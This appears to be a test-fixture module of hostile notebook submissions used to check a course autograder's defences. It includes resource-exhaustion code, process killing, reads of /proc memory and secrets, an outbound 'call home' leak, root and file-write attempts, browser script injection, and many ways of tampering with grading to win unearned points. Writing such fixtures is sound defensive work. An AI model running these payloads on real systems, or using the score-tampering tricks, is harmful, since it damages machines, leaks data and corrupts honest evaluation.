# ruff: noqa: E501 -- what submissions hold is as long as it is
"""Hostile submissions: what each tries, as the cells and files that a student would hand in.

The assignment that they attack is in `assignment.py`. All answers in it are wrong unless an attack says otherwise, so
whoever gets a point has gained one that was not earned.
"""

from __future__ import annotations

import json
import os
import textwrap
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

Notebook = dict[str, Any]
WRONG = "def double(x):\n    return None\ndef square(x):\n    return 0.0"


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A hostile submission.

    Parameters
    ----------
    title : str
        What it tries, the end of a sentence that begins with "a submission that".
    code : str
        The source of the answer to the first question.
    edit : callable or None
        What else is done to the notebook.
    plant : callable or None
        What is done to the folder of the submission, after the notebook was written.
    points : float
        What it has earned.
    flag : str
        The kind of flag that a person must see; none when empty.
    refused : bool
        Whether it cannot be read at all.
    """

    title: str
    code: str = WRONG
    edit: Callable[[Notebook], None] | None = None
    plant: Callable[[Path], None] | None = None
    points: float = 0.0
    flag: str = ""
    refused: bool = False
    marks: tuple[str, ...] = field(default=())

    @property
    def student(self) -> str:
        """Who hands it in."""
        return "m-" + "".join(c if c.isalnum() else "-" for c in self.title.lower())[:60].strip("-")


def code(text: str, *, then: str = WRONG) -> str:
    """Write what an attack does, and then the wrong answer."""
    return textwrap.dedent(text).strip() + "\n" + then


def cell(notebook: Notebook, name: str) -> dict[str, Any]:
    """Find a cell by nbgrader's name."""
    return next(each for each in notebook["cells"] if each["metadata"].get("nbgrader", {}).get("grade_id") == name)


# -- what it uses up --------------------------------------------------------------------------------------------------

RESOURCES = [
    Attack(title="never ends", code=code("while True:\n    pass")),
    Attack(title="never ends in a function that a test calls", code="def double(x):\n    while True:\n        pass"),
    Attack(
        title="never ends and takes no interrupt",
        code=code("""
            import time
            while True:
                try:
                    time.sleep(60)
                except BaseException:
                    pass
            """),
    ),
    Attack(title="fills the memory", code=code("hoard = [bytearray(1 << 28) for _ in range(64)]")),
    Attack(
        title="forks without end",
        code=code("""
            import os
            try:
                while True:
                    os.fork()
            except OSError:
                pass
            """),
    ),
    Attack(
        title="starts threads without end",
        code=code("""
            import threading, time
            try:
                while True:
                    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
            except RuntimeError:
                pass
            """),
    ),
    Attack(
        title="fills the disk",
        code=code("""
            for folder in ("/tmp", ".", "/dev/shm"):
                try:
                    with open(folder + "/fill", "wb") as file:
                        for _ in range(4096):
                            file.write(b"x" * (1 << 20))
                except OSError as error:
                    print(folder, error)
            """),
    ),
    Attack(title="prints without end", code=code("while True:\n    print('x' * 100_000)")),
    Attack(
        title="displays something enormous",
        code=code("from IPython.display import HTML, display\ndisplay(HTML('y' * 50_000_000))"),
    ),
    Attack(
        title="opens files without end",
        code=code(
            "kept = []\ntry:\n    while True:\n        kept.append(open('/dev/null'))\nexcept OSError:\n    pass\nkept.clear()"
        ),
    ),
]

# -- what it ends -----------------------------------------------------------------------------------------------------

ENDINGS = [
    Attack(title="leaves by os._exit", code=code("import os\nos._exit(0)"), flag="stopped"),
    Attack(
        title="leaves by os._exit in a function that a test calls",
        code="def double(x):\n    import os\n    os._exit(0)",
        flag="stopped",
    ),
    Attack(title="leaves by sys.exit", code=code("import sys\nsys.exit(0)")),
    Attack(title="leaves by sys.exit in a function that a test calls", code="def double(x):\n    raise SystemExit(0)"),
    Attack(
        title="kills its kernel", code=code("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), flag="stopped"
    ),
    Attack(
        title="kills everything it can reach",
        code=code("""
            import os, signal
            for target in (1, os.getppid(), -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError as error:
                    print(error)
            """),
    ),
    Attack(title="crashes the interpreter", code=code("import faulthandler\nfaulthandler._sigsegv()"), flag="stopped"),
    Attack(
        title="goes on as two processes",
        code=code("import os\nos.fork()"),
    ),
    Attack(
        title="leaves a process behind",
        code=code("""
            import subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600) # left-behind"], start_new_session=True)
            """),
    ),
    Attack(title="closes all descriptors", code=code("import os\nos.closerange(3, 256)"), flag="stopped"),
]

# -- what it does to the notebook -------------------------------------------------------------------------------------


def edit_test(notebook: Notebook) -> None:
    cell(notebook, "t-double-test")["source"] = "4.0"


def delete_tests(notebook: Notebook) -> None:
    notebook["cells"] = [each for each in notebook["cells"] if not each["metadata"].get("nbgrader", {}).get("grade")]


def double_test(notebook: Notebook) -> None:
    place = notebook["cells"].index(cell(notebook, "t-double-test"))
    forged = json.loads(json.dumps(notebook["cells"][place]))
    forged["source"] = "4.0"
    notebook["cells"].insert(place, forged)


def move_test(notebook: Notebook) -> None:
    test = cell(notebook, "t-double-test")
    notebook["cells"].remove(test)
    notebook["cells"].insert(0, test)


def raise_points(notebook: Notebook) -> None:
    for name in ("t-double-test", "t-square-test"):
        cell(notebook, name)["metadata"]["nbgrader"]["points"] = 100


def swap_ids(notebook: Notebook) -> None:
    first, second = cell(notebook, "t-double-test"), cell(notebook, "t-even-test")
    a, b = first["metadata"]["nbgrader"], second["metadata"]["nbgrader"]
    a["grade_id"], b["grade_id"] = b["grade_id"], a["grade_id"]


def claim_marks(notebook: Notebook) -> None:
    cell(notebook, "t-double")["metadata"]["nbgrader"].update(grade=True, locked=True, points=50)


def add_test(notebook: Notebook) -> None:
    forged = json.loads(json.dumps(cell(notebook, "t-double-test")))
    forged["metadata"]["nbgrader"].update(grade_id="t-extra", points=50)
    forged["source"] = "50.0"
    forged["id"] = "t-extra"
    notebook["cells"].append(forged)


def forge_outputs(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        if each["cell_type"] == "code":
            each["outputs"] = [
                {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "4.0"}}
            ]


def no_validation(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        each["metadata"].get("nbgrader", {}).pop("checksum", None)
        each["metadata"].get("nbgrader", {})["schema_version"] = 3
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


NOTEBOOKS = [
    Attack(title="edits a test", edit=edit_test, flag="restored"),
    Attack(title="deletes the tests", edit=delete_tests, flag="restored"),
    Attack(title="doubles a test, the first of them harmless", edit=double_test, flag="restored"),
    Attack(title="moves a test before its answer", edit=move_test, flag="restored"),
    Attack(title="raises the points of tests", edit=raise_points, flag="restored"),
    Attack(title="swaps the names of two tests", edit=swap_ids, flag="restored"),
    Attack(title="marks its answer as a test of its own", edit=claim_marks, code="50.0", flag="restored"),
    Attack(title="brings a test of its own", edit=add_test),
    Attack(title="brings outputs of its own", edit=forge_outputs),
    Attack(title="asks for another kernel and drops checksums", edit=no_validation),
]

# -- what it does to Python -------------------------------------------------------------------------------------------

PYTHON = [
    Attack(
        title="replaces Checks.score",
        code=code("from coursekit.grading import Checks\nChecks.score = lambda self: 4.0"),
        flag="tampered",
    ),
    Attack(
        title="replaces Checks.part by something that forgives",
        code=code("""
            import contextlib
            from coursekit.grading import Checks
            @contextlib.contextmanager
            def forgiving(self, points, what):
                import coursekit.grading.checks as module
                with contextlib.suppress(BaseException):
                    yield
                self._parts.append(module._Part(points, what, None))
            Checks.part = forgiving
            """),
        flag="tampered",
    ),
    Attack(
        title="swaps the code of a function that tests use",
        code=code("""
            import coursekit.grading.checks as module
            module._in_words.__code__ = (lambda error: None).__code__
            """),
        flag="tampered",
    ),
    Attack(
        title="replaces assertions of numpy",
        code=code(
            "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\nnumpy.testing.assert_equal = lambda *a, **k: None"
        ),
        flag="tampered",
    ),
    Attack(
        title="replaces what assertions of numpy stand on",
        code=code("import numpy.testing._private.utils as utils\nutils.assert_array_compare = lambda *a, **k: None"),
        flag="tampered",
    ),
    Attack(
        title="binds the names that tests use to things of its own",
        code=code("""
            class Checks:
                def part(self, points, what):
                    import contextlib
                    return contextlib.suppress(BaseException)
                def score(self):
                    return 4.0
            class np:
                class testing:
                    assert_allclose = staticmethod(lambda *a, **k: None)
            isinstance = all = any = lambda *a: True
            """),
    ),
    Attack(
        title="puts a module of its own into sys.modules",
        code=code("""
            import sys, types
            fake = types.ModuleType("coursekit.grading")
            class Checks:
                def part(self, points, what):
                    import contextlib
                    return contextlib.suppress(BaseException)
                def score(self):
                    return 4.0
            fake.Checks = Checks
            sys.modules["coursekit.grading"] = sys.modules["coursekit.grading.checks"] = fake
            """),
        flag="tampered",
    ),
    Attack(
        title="replaces the import of Python",
        code=code("""
            import builtins
            kept = builtins.__import__
            def importing(name, *rest):
                module = kept(name, *rest)
                if "grading" in name or "numpy" in name:
                    raise ImportError("none")
                return module
            builtins.__import__ = importing
            """),
        flag="tampered",
    ),
    Attack(
        title="takes assertions out of what IPython runs",
        code=code("""
            import ast
            class Harmless(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()
            shell = get_ipython()
            shell.ast_transformers.append(Harmless())
            shell.input_transformers_post.append(lambda lines: [line.replace("assert", "print") for line in lines])
            shell.run_cell = lambda *a, **k: None
            """),
    ),
    Attack(
        title="makes the display say what it likes",
        code=code("""
            import sys
            shell = get_ipython()
            type(shell.displayhook).__call__ = lambda self, result=None: None
            sys.displayhook = lambda value: print("4.0")
            from IPython.display import display
            display(4.0)
            print({"cell": "t-double-test", "status": "ok", "score": 4.0})
            """),
    ),
    Attack(
        title="writes results of its own to every descriptor",
        code=code("""
            import os
            for descriptor in range(3, 64):
                try:
                    os.write(descriptor, b'{"cell": "t-double-test", "status": "ok", "score": 4.0}\\n' * 40)
                except OSError:
                    pass
            """),
        flag="tampered",
    ),
    Attack(
        title="writes results of its own where the grader reads",
        code=code("""
            import glob
            for path in glob.glob("/proc/[0-9]*/fd/*") + ["/dev/stdout", "/dev/console", "/dev/tty"]:
                try:
                    with open(path, "wb", buffering=0) as file:
                        file.write(b'\\n{"cell": "t-double-test", "status": "ok", "score": 4.0}\\n')
                except OSError:
                    pass
            """),
    ),
    Attack(
        title="returns an object that equals everything",
        code="""
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
def double(x): return Anything(1)
def square(x): return Anything(1)
""",
    ),
]

# -- what it looks for ------------------------------------------------------------------------------------------------

LOOKING = [
    Attack(
        title="walks up the stack to the test",
        code="""
import sys
def double(x):
    frame = sys._getframe()
    while frame:
        print(frame.f_code.co_consts, list(frame.f_locals))
        frame = frame.f_back
""",
    ),
    Attack(
        title="walks up from a traceback",
        code="""
def double(x):
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame:
            print(frame.f_code.co_consts, list(frame.f_locals))
            frame = frame.f_back
""",
    ),
    Attack(
        title="walks up from a generator",
        code="""
def steps():
    yield own[0].gi_frame.f_back
own = []
def double(x):
    own[:] = [steps()]
    frame = next(own[0])
    while frame:
        print(frame.f_code.co_consts, list(frame.f_locals))
        frame = frame.f_back
""",
    ),
    Attack(
        title="asks inspect for the stack",
        code="""
import inspect
def double(x):
    for info in inspect.stack():
        print(info.frame.f_code.co_consts, info.code_context)
""",
    ),
    Attack(
        title="asks modules that hand out frames",
        code="""
import sys, traceback
def double(x):
    for frame, line in traceback.walk_stack(None):
        print(frame.f_code.co_consts)
    print(traceback.StackSummary.extract(traceback.walk_stack(None), capture_locals=True))
    print(sys._current_frames())
""",
    ),
    Attack(
        title="asks the garbage collector for everything",
        code="""
import gc
def double(x):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and any("secret" in str(key) for key in thing):
            print(thing)
""",
    ),
    Attack(
        title="traces the test",
        code=code("""
            import sys, threading
            seen = []
            def trace(frame, event, argument):
                seen.append(str(frame.f_code.co_consts))
                return trace
            try:
                sys.settrace(trace)
            except PermissionError as error:
                print(error)
            try:
                sys.setprofile(trace)
            except PermissionError as error:
                print(error)
            """),
    ),
    Attack(
        title="adds an audit hook that sees what is compiled",
        code=code("""
            import sys
            sys.addaudithook(lambda event, arguments: print(arguments) if event in ("compile", "exec") else None)
            """),
    ),
    Attack(
        title="reaches into memory through ctypes",
        code="""
import ctypes
def double(x):
    frame = ctypes.pythonapi.PyEval_GetFrame
    frame.restype = ctypes.py_object
    print(frame().f_back.f_code.co_consts)
""",
    ),
    Attack(
        title="passes its code for a library's",
        code=code(
            """
            import inspect, sys
            namespace = {}
            exec(compile("import sys\\ndef look():\\n    return sys._getframe(2)", inspect.__file__, "exec"), namespace)
            """,
            then="def double(x):\n    print(namespace['look']().f_code.co_consts)",
        ),
    ),
    Attack(
        title="gives its code another file's name",
        code="""
import inspect, sys
def look():
    return sys._getframe(2)
look.__code__ = look.__code__.replace(co_filename=inspect.__file__)
def double(x):
    print(look().f_code.co_consts)
""",
    ),
    Attack(
        title="follows a helper's globals to what is hidden",
        code="def double(x):\n    print([value for value in vars(is_even).get('__globals__', is_even.__globals__).items()])",
    ),
    Attack(
        title="reads the history for hidden tests",
        code=code(
            """
            import linecache
            """,
            then="""
def double(x):
    print(get_ipython().user_ns.get("In"), get_ipython().history_manager.input_hist_raw)
    print(linecache.cache)
""",
        ),
    ),
    Attack(
        title="reads the descriptors for tests to come",
        code=code("""
            import os, threading
            def steal(descriptor):
                try:
                    while data := os.read(descriptor, 65536):
                        print(data)
                except OSError:
                    pass
            for descriptor in range(3, 40):
                threading.Thread(target=steal, args=(descriptor,), daemon=True).start()
            """),
    ),
    Attack(
        title="reads its own memory and others'",
        code=code("""
            for path in ("/proc/self/mem", "/proc/1/mem", "/proc/1/environ", "/proc/1/cmdline", "/proc/1/fd/0", "/proc/self/fd/3"):
                try:
                    with open(path, "rb") as file:
                        print(path, file.read(4096))
                except OSError as error:
                    print(path, error)
            """),
    ),
    Attack(
        title="looks for notebooks on the disk",
        code=code("""
            import os
            for folder, _, files in os.walk("/"):
                if folder.startswith(("/proc", "/sys", "/usr")):
                    continue
                for name in files:
                    if name.endswith((".ipynb", ".db")) and "site-packages" not in folder:
                        try:
                            print("found", folder, name, open(os.path.join(folder, name), "rb").read()[:3000])
                        except OSError:
                            pass
            """),
    ),
    Attack(
        title="reads the course's folders by their names",
        code=code("""
            import os
            for path in ("COURSE_DIR/gradebook.db", "COURSE_DIR/source/toy/toy.ipynb", "COURSE_DIR/submitted/honest/toy/toy.ipynb"):
                try:
                    print("found", open(path, "rb").read()[:3000])
                except OSError as error:
                    print(error)
            """),
    ),
    Attack(
        title="looks for secrets in the environment",
        code=code("import os\nprint({k: v for k, v in os.environ.items() if 'GRADER_TOKEN' in k or 'secret' in v})"),
    ),
    Attack(
        title="calls home",
        code=code("""
            import socket
            socket.setdefaulttimeout(2)
            for address in (("1.1.1.1", 80), ("172.17.0.1", CANARY_PORT), ("127.0.0.1", CANARY_PORT), ("10.0.2.2", CANARY_PORT)):
                try:
                    socket.create_connection(address).sendall(b"leak")
                    print("found a way to", address)
                except OSError as error:
                    print(error)
            for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock"):
                try:
                    socket.socket(socket.AF_UNIX).connect(path)
                    print("found", path)
                except OSError as error:
                    print(error)
            """),
    ),
    Attack(
        title="writes into the grader's packages",
        code=code("""
            import coursekit.grading.checks, os
            for path in (coursekit.grading.checks.__file__, "/usr/bin/env", "/etc/passwd"):
                try:
                    open(path, "a").write("\\n")
                    print("found a file to write:", path)
                except OSError as error:
                    print(error)
            """),
    ),
    Attack(
        title="becomes root",
        code=code("""
            import os, subprocess
            try:
                os.setuid(0)
                print("found a way to be root")
            except OSError as error:
                print(error)
            for command in (["mount", "-t", "tmpfs", "none", "/mnt"], ["mknod", "/tmp/disk", "b", "8", "0"]):
                if subprocess.run(command, capture_output=True).returncode == 0:
                    print("found a way to", command)
            """),
    ),
    Attack(
        title="runs script in the instructor's browser",
        code=code("""
            from IPython.display import HTML, Javascript, display
            display(HTML("<script>alert('owned')</script><img src=x onerror=\\"alert('owned')\\">"))
            display(Javascript("alert('owned')"))
            """),
    ),
]

# -- what it hands in -------------------------------------------------------------------------------------------------


def link_notebook(folder: Path) -> None:
    (folder / "toy.ipynb").unlink()
    (folder / "toy.ipynb").symlink_to(folder.parents[2] / "source" / "toy" / "toy.ipynb")


def pipe_notebook(folder: Path) -> None:
    (folder / "toy.ipynb").unlink()
    os.mkfifo(folder / "toy.ipynb")


def pipe_beside(folder: Path) -> None:
    os.mkfifo(folder / "pipe.csv")


def link_beside(folder: Path) -> None:
    (folder / "book.csv").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "up").symlink_to(folder.parents[2])
    os.link(folder.parents[2] / "source" / "toy" / "toy.ipynb", folder / "hard.csv")


def device_beside(folder: Path) -> None:
    if os.geteuid() == 0:
        os.mknod(folder / "zero.csv", 0o666 | 0o020000, os.makedev(1, 5))
    else:
        (folder / "zero.csv").symlink_to("/dev/zero")


def text_notebook(folder: Path) -> None:
    (folder / "toy.ipynb").write_text("this is no notebook {")


def old_notebook(folder: Path) -> None:
    (folder / "toy.ipynb").write_text(
        json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [], "metadata": {}})
    )


def deep_notebook(folder: Path) -> None:
    (folder / "toy.ipynb").write_text('{"nbformat": 4, "cells": ' + "[" * 200_000 + "]" * 200_000 + "}")


def odd_notebook(folder: Path) -> None:
    cells = [{"cell_type": "code", "metadata": None, "source": 7}, "no cell", None]
    (folder / "toy.ipynb").write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": [], "cells": cells}))


def enormous_notebook(folder: Path) -> None:
    with (folder / "toy.ipynb").open("r+b") as file:
        file.truncate(3 * 1024**3)


def no_notebook(folder: Path) -> None:
    (folder / "toy.ipynb").rename(folder / "toy (1) \u00fc\u2603.ipynb")


def many_files(folder: Path) -> None:
    for number in range(3000):
        (folder / f"{number} \u00e9 .txt").write_text("x")


def modules_beside(folder: Path) -> None:
    forged = "class Checks:\n    def __getattr__(self, name): return lambda *a, **k: 4.0\n"
    for name in ("numpy", "coursekit", "random", "sitecustomize", "json", "IPython"):
        (folder / f"{name}.py").write_text(forged)


FILES = [
    Attack(title="is a link to the instructor's notebook", plant=link_notebook, refused=True),
    Attack(title="is a pipe", plant=pipe_notebook, refused=True),
    Attack(title="has a pipe beside it", plant=pipe_beside),
    Attack(title="has links to the gradebook beside it", plant=link_beside),
    Attack(title="has a device beside it", plant=device_beside),
    Attack(title="is no JSON", plant=text_notebook, refused=True),
    Attack(title="is of an old format", plant=old_notebook, refused=True),
    Attack(title="is nested too deeply", plant=deep_notebook, refused=True),
    Attack(title="holds cells that are none", plant=odd_notebook, refused=True),
    Attack(title="is enormous", plant=enormous_notebook, refused=True),
    Attack(title="has a name of its own with spaces and Unicode", plant=no_notebook, refused=True),
    Attack(title="has thousands of files beside it", plant=many_files),
    Attack(title="has modules beside it that look like the grader's", plant=modules_beside),
]

ATTACKS: tuple[Attack, ...] = (*RESOURCES, *ENDINGS, *NOTEBOOKS, *PYTHON, *LOOKING, *FILES)


def named(attacks: Iterable[Attack]) -> dict[str, Attack]:
    """Give attacks by the student who hands them in."""
    return {attack.student: attack for attack in attacks}
